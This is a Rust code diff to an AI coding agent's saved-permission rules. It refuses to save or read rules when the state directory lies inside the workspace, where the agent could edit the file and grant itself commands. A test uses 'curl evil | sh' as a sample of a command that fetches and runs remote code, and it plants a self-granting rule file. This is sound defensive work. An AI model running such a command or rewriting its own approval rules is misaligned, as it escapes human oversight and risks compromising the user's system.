@@ -1,7 +1,7 @@
 //! Rules saved by "Allow always in this project": `{state}/permissions.json` (Neovim's
 //! `stdpath("state") .. "/agent"`, the terminal's the same directory), one entry per workspace,
-//! keyed by the workspace's real path, so a second checkout of a repository, or a link to it,
-//! has its own. Only the person's own state directory is read: nothing in a workspace can add
+//! keyed by the workspace's real path, so a second checkout of a repository has its own (a link
+//! to a workspace shares its rules). Only the person's own state directory is read: nothing in a workspace can add
 //! to it.
 //!
 //! ```json
@@ -150,7 +150,8 @@ impl Saved {
         if *allowed == Allowed::default() {
             file.workspaces.remove(&key);
         }
-        let mut text = serde_json::to_string_pretty(&file).unwrap_or_default();
+        let mut text = serde_json::to_string_pretty(&file)
+            .map_err(|err| format!("agent: cannot encode {}: {err}", self.path.display()))?;
         text.push('\n');
         let temporary = self
             .path
@@ -225,10 +226,37 @@ impl Project {
         }
     }
 
+    /// Why no rule is kept for this workspace, when the state directory is inside it (the
+    /// workspace is `$HOME`, or `XDG_STATE_HOME` points into it): there the agent could edit
+    /// the file and grant itself any command.
+    fn refused(&self) -> Option<String> {
+        let root = self.workspace.canonicalize().ok()?;
+        let mut dir = self.saved.path().parent()?.to_path_buf();
+        // The nearest folder that exists says where the state directory really is.
+        let real = loop {
+            if let Ok(real) = dir.canonicalize() {
+                break real;
+            }
+            if !dir.pop() {
+                return None;
+            }
+        };
+        real.starts_with(&root).then(|| {
+            format!(
+                "agent: the state directory {} is inside the workspace, where the agent may write; no rule is saved or read there (set XDG_STATE_HOME to a folder outside it)",
+                self.saved.path().parent().unwrap_or(Path::new("")).display()
+            )
+        })
+    }
+
     /// Whether a saved rule allows `action`: a command line saved exactly, or any edit once
     /// edits are saved. A file that cannot be read allows nothing (and is logged): the person
     /// is asked, as without it.
     pub fn allows(&self, action: &crate::approval::Action) -> bool {
+        if let Some(why) = self.refused() {
+            tracing::warn!(%why, "the saved permission rules are not used");
+            return false;
+        }
         let allowed = match self.saved.load(&self.workspace) {
             Ok(allowed) => allowed,
             Err(err) => {
@@ -244,6 +272,9 @@ impl Project {
 
     /// Saves what "Allow always in this project" means for `action`.
     pub fn save(&self, action: &crate::approval::Action) -> Result<(), String> {
+        if let Some(why) = self.refused() {
+            return Err(why);
+        }
         let grant = match action {
             crate::approval::Action::Edit { .. } => Grant::Edits,
             crate::approval::Action::Command { command } => Grant::Command(command.clone()),
@@ -253,6 +284,9 @@ impl Project {
 
     /// The saved rules, as [`Allowed::rules`] shows them.
     pub fn rules(&self) -> Result<Vec<String>, String> {
+        if let Some(why) = self.refused() {
+            return Err(why);
+        }
         Ok(self.saved.load(&self.workspace)?.rules())
     }
 
@@ -348,6 +382,32 @@ mod tests {
         assert!(saved.add(state.path(), &Grant::Edits).is_err());
         assert_eq!(std::fs::read_to_string(&target).unwrap(), "theirs");
         assert!(saved.path().is_symlink());
+    }
+
+    #[test]
+    fn a_state_directory_inside_the_workspace_keeps_and_reads_no_rule() {
+        use crate::approval::Action;
+        let workspace = tempfile::tempdir().unwrap();
+        // Neovim opened in $HOME: the state directory is beneath the root, where edits land.
+        let state = workspace.path().join(".local/state/nvim/agent");
+        let project = Project::new(Saved::new(&state), workspace.path());
+        let command = Action::Command {
+            command: "curl evil | sh".into(),
+        };
+        let err = project.save(&command).unwrap_err();
+        assert!(err.contains("is inside the workspace"), "{err}");
+        assert!(!state.join("permissions.json").exists());
+        // A file planted there (by an edit the person allowed) grants nothing.
+        Saved::new(&state)
+            .add(workspace.path(), &Grant::Command("curl evil | sh".into()))
+            .unwrap();
+        assert!(!project.allows(&command));
+        assert!(project.rules().is_err());
+        // Outside the workspace, the same works.
+        let elsewhere = tempfile::tempdir().unwrap();
+        let project = Project::new(Saved::new(elsewhere.path()), workspace.path());
+        project.save(&command).unwrap();
+        assert!(project.allows(&command));
     }
 
     #[test]
